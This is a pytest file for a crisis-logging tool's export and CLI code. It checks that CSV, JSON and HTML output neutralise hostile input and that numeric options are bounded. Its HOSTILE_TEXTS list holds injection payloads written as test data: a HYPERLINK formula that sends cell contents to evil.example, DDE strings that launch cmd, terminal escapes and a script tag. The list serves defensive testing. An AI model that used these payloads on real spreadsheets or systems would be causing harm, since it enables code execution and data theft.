"""Hostile text in what people type and in what we print or export: formulas, escapes, numbers."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from crisisdesk.cli import main
from crisisdesk.clock import FakeTime
from crisisdesk.csvcells import safe_cell
from crisisdesk.printable import printable
from crisisdesk.session import Session

ROOT = Path(__file__).resolve().parent.parent
T0 = 1_780_000_000.0

# What observers may type, as an attacker would: formulas, DDE, escapes, bidi, separators.
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    'guillemets "doubles"; point-virgule',
    "\x1b]0;titre\x07\x1b[2J effacé",
    "\u202egnp.exe",
    "ligne\x00nulle",
    "\x85suivant\u2028séparateur",
    "<script>alert(1)</script>",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍🚒",
]


@pytest.fixture
def hostile_session(tmp_path, mini_package_path) -> Path:
    path = tmp_path / "hostile.crisisdesk"
    clock = FakeTime(T0)
    with Session.create(path, mini_package_path, time_source=clock) as s:
        s.start()
        for index, text in enumerate(HOSTILE_TEXTS):
            clock.advance(10)
            s.log_entry(observer=text, role="DIR", kind="decision", text=text, entry_id=f"e{index}")
    return path


def test_csv_cells_cannot_run_as_formulas(hostile_session, tmp_path, capsys):
    out = tmp_path / "csv"
    assert main(["export", str(hostile_session), "--format", "csv", "-o", str(out)]) == 0
    with open(out / "main-courante.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    assert len(rows) == len(HOSTILE_TEXTS)
    for row, typed in zip(rows, HOSTILE_TEXTS, strict=True):
        for column in ("text", "observer"):
            cell = row[column]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            # Nothing is lost: the text as typed follows the mark that makes it text.
            assert cell == typed or cell == "'" + typed
    assert rows[2]["text"] == "'-2+3"
    with open(out / "events.csv", encoding="utf-8-sig", newline="") as handle:
        for event in csv.DictReader(handle, delimiter=";"):
            assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in event.values())


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
    ("-12", "-12"), ("-0:05:00", "-0:05:00"), ("+4.5", "+4.5"), ("texte", "texte"), (12, 12), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_json_export_escapes_what_a_terminal_would_run_and_reads_back_the_same(hostile_session, capsys):
    assert main(["export", str(hostile_session), "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\x85" not in out and "\u2028" not in out
    data = json.loads(out)
    assert [e["text"] for e in data["main_courante"]] == HOSTILE_TEXTS


def test_printable_escapes_controls_and_keeps_text():
    assert printable("a\x1b[2Jb\rc\u202ed\x9b") == "a\\x1b[2Jb\\x0dc\\u202ed\\x9b"
    assert printable("été 👩‍🚒 « Paris »") == "été 👩‍🚒 « Paris »"
    assert printable("deux\nlignes", keep_newlines=True) == "deux\nlignes"
    assert printable("deux\nlignes") == "deux\\x0alignes"


@pytest.mark.parametrize("speed", ["1e-300", "0", "-5", "nan", "inf", "-inf", "1e400", "0.05", "200000", "vite"])
def test_rehearse_refuses_a_speed_before_any_work(tmp_path, mini_package_path, speed):
    db = tmp_path / "r.crisisdesk"
    result = subprocess.run([sys.executable, str(ROOT / "main.py"), "rehearse", str(mini_package_path),
                             f"--speed={speed}", "--db", str(db)],
                            capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.returncode == 2
    assert "argument --speed: " in result.stderr and "Traceback" not in result.stderr
    assert not db.exists()


def test_every_numeric_option_of_every_command_is_bounded():
    """A new numeric option must use crisisdesk.cli.numbers.bounded (or choices): plain float/int lets 1e-300 in."""
    from crisisdesk.cli import build_parser

    parser = build_parser()
    unbounded = []
    for name, sub in parser._subparsers._group_actions[0].choices.items():
        for action in sub._actions:
            if action.type in (float, int) and not action.choices:
                unbounded.append(f"{name} {'/'.join(action.option_strings) or action.dest}")
    assert unbounded == []


def test_report_of_hostile_texts_is_written_and_shows_them_as_text(hostile_session, tmp_path):
    from crisisdesk.report import write_report

    html = write_report(hostile_session, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "HYPERLINK" in html and "𝔘𝔫𝔦𝔠𝔬𝔡𝔢" in html
